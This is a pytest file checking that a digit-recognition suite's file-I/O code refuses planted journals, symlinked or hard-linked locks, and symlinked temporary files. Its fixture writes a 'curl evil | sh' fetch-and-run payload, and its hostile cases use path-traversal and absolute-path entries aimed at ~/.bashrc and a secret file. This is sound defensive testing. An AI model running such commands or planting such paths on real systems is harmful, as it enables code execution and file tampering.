"""Folders from elsewhere (digitsuite.fileio): a planted journal, a symlinked
lock or subfolder. Reading never writes; writing never follows a link or a
journal out of its folder."""

import json
import os
import shutil

import numpy as np
import pytest

from digitsuite import fileio
from digitsuite.errors import DigitsuiteError
from digitsuite.fileio import committed_path, prepare_out_dir, release_folders
from digitsuite.inference.modelio import load_keras_model
from digitsuite.inference.runs import READER_MODEL
from tests.support import draw_seven, fails_with_one_line

PID = 4242


def snapshot(folder):
    """Every entry under ``folder`` (links not followed): name -> bytes or link target."""
    found = {}
    for path in sorted(folder.rglob("*")):
        key = str(path.relative_to(folder))
        if path.is_symlink():
            found[key] = ("link", os.readlink(path))
        elif path.is_file():
            found[key] = path.read_bytes()
    return found


def plant(folder, files, pid=PID):
    (folder / fileio.PENDING_SET).write_text(json.dumps({"pid": pid, "files": files}))


@pytest.fixture
def victim(tmp_path):
    """A file of the user's outside the folder, and a payload inside it."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("the user's own settings\n")
    (home / "secret").write_text("the user's secret\n")
    folder = tmp_path / "sent"
    folder.mkdir()
    (folder / "payload.sh").write_text("curl evil | sh\n")
    return home, folder


HOSTILE = {
    "absolute final": lambda home: [["payload.sh", str(home / ".bashrc")]],
    "absolute temporary": lambda home: [[str(home / "secret"), "grabbed.txt"]],
    "dot-dot": lambda home: [["payload.sh", "../home/.bashrc"]],
    "separator": lambda home: [["payload.sh", "sub/model.keras"]],
    "not a temporary name": lambda home: [["payload.sh", "model.keras"]],
    "another pid's name": lambda home: [[".model.tmp1.keras", "model.keras"]],
    "unknown output": lambda home: [[f".run.tmp{PID}.sh", "run.sh"]],
    "dot file": lambda home: [[f"..bashrc.tmp{PID}", ".bashrc"]],
    "not a pair": lambda home: [["a", "b", "c"]],
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_planted_journal_is_refused_by_a_writer_and_nothing_moves(case, victim):
    home, folder = victim
    plant(folder, HOSTILE[case](home))
    before_home, before_folder = snapshot(home), snapshot(folder)
    with pytest.raises(DigitsuiteError) as error:
        prepare_out_dir(folder)
    release_folders()
    message = str(error.value)
    assert "\n" not in message
    assert message.startswith(f"{folder / fileio.PENDING_SET} is not a journal this suite wrote")
    assert snapshot(home) == before_home
    assert {k: v for k, v in snapshot(folder).items() if k != fileio.LOCK_FILE} \
        == before_folder


def test_a_journal_that_is_a_symlink_or_not_json_is_refused(victim):
    home, folder = victim
    (home / "list.json").write_text(json.dumps(
        {"pid": PID, "files": [[f".model.tmp{PID}.keras", "model.keras"]]}))
    (folder / fileio.PENDING_SET).symlink_to(home / "list.json")
    with pytest.raises(DigitsuiteError, match="not a regular file"):
        fileio.pending_set(folder)
    (folder / fileio.PENDING_SET).unlink()
    (folder / fileio.PENDING_SET).write_text("[1, 2")
    with pytest.raises(DigitsuiteError, match="cannot be read as JSON"):
        fileio.pending_set(folder)


def test_a_journal_entry_that_is_a_symlink_is_refused(victim):
    home, folder = victim
    (folder / f".model.tmp{PID}.keras").symlink_to(home / "secret")
    plant(folder, [[f".model.tmp{PID}.keras", "model.keras"]])
    with pytest.raises(DigitsuiteError, match="is a symlink or a folder"):
        prepare_out_dir(folder)
    release_folders()
    assert (home / "secret").read_text() == "the user's secret\n"
    assert not (folder / "model.keras").exists()


def test_reading_a_model_folder_with_a_planted_journal_writes_nothing(victim, tmp_path,
                                                                     capsys):
    home, folder = victim
    shutil.copy(READER_MODEL, folder / "model.keras")
    plant(folder, [["payload.sh", str(home / ".bashrc")],
                   [str(home / "secret"), "grabbed.txt"]])
    photo = draw_seven(tmp_path / "photo.png")
    before_home, before_folder = snapshot(home), snapshot(folder)
    err = fails_with_one_line(capsys, "read_digits", ["--model", folder / "model.keras", photo])
    assert fileio.PENDING_SET in err and "nothing was moved" in err
    assert snapshot(home) == before_home
    assert snapshot(folder) == before_folder


def test_a_reader_reads_a_committed_set_where_it_lies_without_moving_it(tmp_path):
    """A run killed between its journal and its last move: the reader sees the
    new model, and the folder is left for the next writer to finish."""
    from digitsuite.backend import keras

    old = keras.Sequential([keras.Input((2,)), keras.layers.Dense(1)])
    new = keras.Sequential([keras.Input((2,)), keras.layers.Dense(1)])
    new.set_weights([np.full((2, 1), 7.0, np.float32), np.ones(1, np.float32)])
    old.save(tmp_path / "model.keras")
    new.save(tmp_path / f".model.tmp{PID}.keras")
    plant(tmp_path, [[f".model.tmp{PID}.keras", "model.keras"]])
    before = snapshot(tmp_path)
    assert committed_path(tmp_path / "model.keras") == tmp_path / f".model.tmp{PID}.keras"
    loaded = load_keras_model(tmp_path / "model.keras")
    np.testing.assert_array_equal(loaded.get_weights()[0], new.get_weights()[0])
    assert snapshot(tmp_path) == before
    # The next writer finishes the move.
    prepare_out_dir(tmp_path)
    release_folders()
    np.testing.assert_array_equal(
        load_keras_model(tmp_path / "model.keras").get_weights()[0], new.get_weights()[0])
    assert not (tmp_path / fileio.PENDING_SET).exists()


def test_a_symlinked_lock_is_refused_and_its_target_untouched(victim):
    home, folder = victim
    (folder / fileio.LOCK_FILE).symlink_to(home / ".bashrc")
    with pytest.raises(DigitsuiteError) as error:
        prepare_out_dir(folder)
    release_folders()
    assert str(error.value).startswith(f"{folder / fileio.LOCK_FILE} is a symbolic link")
    assert (home / ".bashrc").read_text() == "the user's own settings\n"


def test_a_hard_linked_lock_is_refused_and_its_target_untouched(victim):
    home, folder = victim
    os.link(home / ".bashrc", folder / fileio.LOCK_FILE)
    with pytest.raises(DigitsuiteError, match="is not this suite's lock file"):
        prepare_out_dir(folder)
    release_folders()
    assert (home / ".bashrc").read_text() == "the user's own settings\n"


def test_the_temp_sweep_never_leaves_the_folder(victim):
    home, folder = victim
    outside = home / "work"
    outside.mkdir()
    dead_temp = ".notes.tmp999999.md"  # the name a dead run's temporary file has
    (outside / dead_temp).write_text("the user's file")
    (home / ".model.tmp999999.keras").write_text("another of the user's files")
    (folder / "linked").symlink_to(outside, target_is_directory=True)
    (folder / ".model.tmp999999.keras").symlink_to(home / ".model.tmp999999.keras")
    prepare_out_dir(folder)
    release_folders()
    assert (outside / dead_temp).read_text() == "the user's file"
    assert (home / ".model.tmp999999.keras").exists()
    assert (folder / ".model.tmp999999.keras").is_symlink()


def test_a_symlink_planted_at_a_temporary_name_is_not_written_through(victim):
    home, folder = victim
    (folder / f".report.tmp{os.getpid()}.md").symlink_to(home / ".bashrc")
    fileio.write_text(folder / "report.md", "the report")
    assert (home / ".bashrc").read_text() == "the user's own settings\n"
    assert (folder / "report.md").read_text() == "the report"
